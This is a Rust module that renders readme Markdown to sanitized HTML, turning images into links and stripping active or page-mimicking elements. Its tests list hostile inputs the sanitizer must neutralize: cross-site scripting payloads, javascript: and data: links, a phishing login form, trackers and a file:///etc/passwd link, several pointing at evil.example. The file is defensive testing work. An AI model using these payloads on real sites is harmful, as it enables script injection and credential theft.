//! Makes HTML of a readme in Markdown: what GitHub shows, without anything that acts, loads or looks like the page.
//!
//! The Markdown is `comrak`'s to read, the HTML that comes of it `ammonia`'s to clean. Pictures become links: to load
//! one from elsewhere would tell its server who reads the page, and one in the package has no address of its own.

use std::borrow::Cow;
use std::collections::HashSet;
use std::fmt;
use std::sync::{LazyLock, Mutex};
use std::time::{Duration, Instant};

use ammonia::{Builder, UrlRelative};
use comrak::adapters::{HeadingAdapter, HeadingMeta};
use comrak::nodes::{NodeValue, Sourcepos};
use comrak::{
    Anchorizer, Arena, Node, Options, format_html_with_plugins, options, try_parse_document,
};
use mu_provider::threads::lock;

/// Before every id, so that none can be one of the page's.
const PREFIX: &str = "readme-";

/// How many levels deeper a heading is on the page: its name and the heading `Readme` come first.
const DEEPER: u8 = 2;

/// How deep the elements of a readme may be nested: to clean deeper ones takes time that grows with the square of it.
const DEEPEST: usize = 500;

/// How long it may take to read one.
const LONGEST: Duration = Duration::from_secs(2);

/// Elements that would look like parts of the page to whoever moves by landmarks and headings, or load something.
const NOT_ALLOWED: [&str; 14] = [
    "img",
    "map",
    "area",
    "nav",
    "header",
    "footer",
    "aside",
    "article",
    "hgroup",
    "h1",
    "h2",
    "center",
    "figure",
    "figcaption",
];

static CLEANER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut cleaner = Builder::default();
    cleaner
        .rm_tags(NOT_ALLOWED)
        .add_generic_attributes(["id"])
        .id_prefix(Some(PREFIX))
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .url_relative(UrlRelative::Custom(Box::new(within)))
        .link_rel(Some("nofollow noopener noreferrer"));
    cleaner
});

/// Only links to headings lead somewhere; where other relative ones would lead nobody knows.
fn within(url: &str) -> Option<Cow<'_, str>> {
    url.strip_prefix('#').map(|id| Cow::Owned(format!("#{PREFIX}{id}")))
}

/// The HTML of a readme; `None` for one that no person wrote: nested so deep, or so hard to read, that it takes long.
pub(super) fn markdown(text: &str) -> Option<String> {
    let mut options = Options::default();
    options.extension.table = true;
    options.extension.strikethrough = true;
    options.extension.autolink = true;
    options.extension.footnotes = true;
    // What people write in HTML is theirs to show, once it is clean.
    options.render.r#unsafe = true;
    let arena = Arena::new();
    let deadline = Instant::now() + LONGEST;
    let is_over = || Instant::now() > deadline;
    let document = try_parse_document(&arena, text, &options, &is_over).ok()?;
    document.descendants().for_each(|node| without_picture(node, &arena));
    let headings = Headings::default();
    let mut plugins = options::Plugins::default();
    plugins.render.heading_adapter = Some(&headings);
    let mut html = String::new();
    format_html_with_plugins(document, &options, &mut html, &plugins).ok()?;
    (depth(&html) <= DEEPEST).then(|| CLEANER.clean(&html).to_string())
}

/// How deep elements are nested at most, if none ends by itself.
fn depth(html: &str) -> usize {
    let (mut depth, mut deepest) = (0_usize, 0);
    for tag in html.split('<').skip(1) {
        match tag.as_bytes().first() {
            Some(b'/') => depth = depth.saturating_sub(1),
            Some(first) if first.is_ascii_alphabetic() => depth += 1,
            _ => {}
        }
        let name = tag.split(|end: char| !end.is_ascii_alphanumeric()).next().unwrap_or_default();
        if ["br", "hr", "img", "wbr", "input"].iter().any(|void| name.eq_ignore_ascii_case(void)) {
            depth = depth.saturating_sub(1);
        }
        deepest = deepest.max(depth);
    }
    deepest
}

/// Makes a link of a picture that says that it is one; inside of a link, of its text alone.
fn without_picture<'arena>(node: Node<'arena>, arena: &'arena Arena<'arena>) {
    let NodeValue::Image(picture) = node.data().value.clone() else { return };
    let is_link = |node: Node<'arena>| matches!(node.data().value, NodeValue::Link(_));
    let is_in_link = node.ancestors().skip(1).any(is_link);
    let has_text = node.descendants().skip(1).any(|inner| match &inner.data().value {
        NodeValue::Text(text) => !text.trim().is_empty(),
        _ => false,
    });
    if !is_in_link || !has_text {
        let what = if has_text { "Picture: " } else { "Picture" };
        node.prepend(arena.alloc(NodeValue::Text(what.into()).into()));
    }
    node.data_mut().value = if is_in_link { NodeValue::Emph } else { NodeValue::Link(picture) };
}

/// Writes headings with ids, at their level on the page.
#[derive(Default)]
struct Headings(Mutex<Anchorizer>);

impl HeadingAdapter for Headings {
    fn enter(
        &self,
        output: &mut dyn fmt::Write,
        heading: &HeadingMeta,
        _: Option<Sourcepos>,
    ) -> fmt::Result {
        let id = lock(&self.0).anchorize(&heading.content);
        // Anchors hold letters, digits and dashes alone.
        write!(output, "<h{} id=\"{PREFIX}{id}\">", level(heading))
    }

    fn exit(&self, output: &mut dyn fmt::Write, heading: &HeadingMeta) -> fmt::Result {
        writeln!(output, "</h{}>", level(heading))
    }
}

fn level(heading: &HeadingMeta) -> u8 {
    (heading.level + DEEPER).min(6)
}

#[cfg(test)]
mod tests {
    use super::{DEEPEST, depth, markdown};

    fn html(text: &str) -> String {
        markdown(text).expect("is plain enough")
    }

    fn check(text: &str, expected: &str) {
        assert_eq!(html(text).trim(), expected, "{text}");
    }

    #[test]
    fn what_a_readme_is_made_of() {
        check(
            "# A *b*\n## A b",
            "<h3 id=\"readme-a-b\">A <em>b</em></h3>\n<h4 id=\"readme-a-b-1\">A b</h4>",
        );
        check(
            "[x](#a-b)",
            "<p><a href=\"#readme-a-b\" rel=\"nofollow noopener noreferrer\">x</a></p>",
        );
        check(
            "https://mu.example/?a=1&b=2",
            "<p><a href=\"https://mu.example/?a=1&amp;b=2\" rel=\"nofollow noopener noreferrer\">https://mu.example/?a=1&amp;b=2</a></p>",
        );
        check("```yaml\na: <b>\n```", "<pre><code>a: &lt;b&gt;\n</code></pre>");
        let table = html("|a|b|\n|-|:-:|\n|1|~~2~~|");
        assert!(table.contains("<td align=\"center\"><del>2</del></td>"), "{table}");
        check(
            "<details><summary>More</summary>x</details>",
            "<details><summary>More</summary>x</details>",
        );
    }

    #[test]
    fn what_acts_or_loads_is_gone() {
        for hostile in [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "![a](https://evil.example/pixel.png)",
            "[![a](https://evil.example/pixel.png)](https://mu.example)",
            "<iframe src=https://evil.example></iframe>",
            "<iframe srcdoc='<script>alert(1)</script>'>",
            "<style>body{display:none}</style>",
            "<p style=\"position:fixed;inset:0\" class=\"notice\">x</p>",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<meta http-equiv=refresh content='0;url=https://evil.example'>",
            "<base href=https://evil.example>",
            "<form action=https://evil.example><input name=token><button>Log in</button></form>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
            "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
            "<object data=https://evil.example></object><embed src=https://evil.example>",
            "<video src=https://evil.example/x autoplay></video>",
            "<div onclick=alert(1)>x</div>",
            "<main><h1>mu hub</h1></main><nav>x</nav>",
            "<template><script>alert(1)</script></template>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<!--><script>alert(1)</script>-->",
        ] {
            let html = html(hostile).to_lowercase();
            for word in [
                "<script",
                "<img",
                "<iframe",
                "<style",
                "style=",
                "class=",
                "<link",
                "<meta",
                "<base",
                "<form",
                "<input",
                "<button",
                "<svg",
                "<math",
                "<object",
                "<embed",
                "<video",
                "<main",
                "<h1",
                "<nav",
                "<template",
                "srcdoc",
                "src=",
            ] {
                assert!(!html.contains(word), "{hostile}: {word}: {html}");
            }
            let acts = html.split('<').skip(1).any(|tag| {
                tag.split('>')
                    .next()
                    .is_some_and(|tag| tag.contains(" on") && !tag.contains("title="))
            });
            assert!(!acts, "{hostile}: {html}");
        }
    }

    #[test]
    fn links_lead_to_the_web_or_nowhere() {
        for hostile in [
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](java&#10;script:alert(1))",
            "<a href=\"&#1;javascript:alert(1)\">x</a>",
            "[x](data:text/html;base64,PHNjcmlwdD4=)",
            "[x](vbscript:x)",
            "[x](file:///etc/passwd)",
            "[x](//evil.example/)",
            "[x](../../hub.json)",
            "[x](/metrics)",
            "[x](\\\\evil.example)",
            "<a href=\"docs/x.md\" target=_top ping=https://evil.example>x</a>",
        ] {
            let html = html(hostile);
            assert!(!html.contains("href") && !html.contains("ping"), "{hostile}: {html}");
            assert!(html.contains('x'), "{hostile}: {html}");
        }
        check(
            "<a href=\"https://mu.example\" target=\"_blank\" id=\"search\">x</a>",
            "<p><a href=\"https://mu.example\" id=\"readme-search\" rel=\"nofollow noopener noreferrer\">x</a></p>",
        );
    }

    #[test]
    fn pictures_are_links() {
        check(
            "![A map](https://mu.example/map.png)",
            "<p><a href=\"https://mu.example/map.png\" rel=\"nofollow noopener noreferrer\">Picture: A map</a></p>",
        );
        check(
            "![A map](map.png)",
            "<p><a rel=\"nofollow noopener noreferrer\">Picture: A map</a></p>",
        );
        check("![](map.png)", "<p><a rel=\"nofollow noopener noreferrer\">Picture</a></p>");
        check(
            "[![build](https://ci.example/badge.svg)](https://ci.example)",
            "<p><a href=\"https://ci.example\" rel=\"nofollow noopener noreferrer\"><em>build</em></a></p>",
        );
    }

    #[test]
    fn what_is_hard_to_read_is_read_in_time() {
        for text in
            ["[".repeat(50_000), "> ".repeat(20_000), "<div>".repeat(20_000), "*a ".repeat(50_000)]
        {
            if let Some(html) = markdown(&text) {
                assert!(html.len() < 1 << 20 && depth(&html) <= DEEPEST);
            }
        }
    }
}
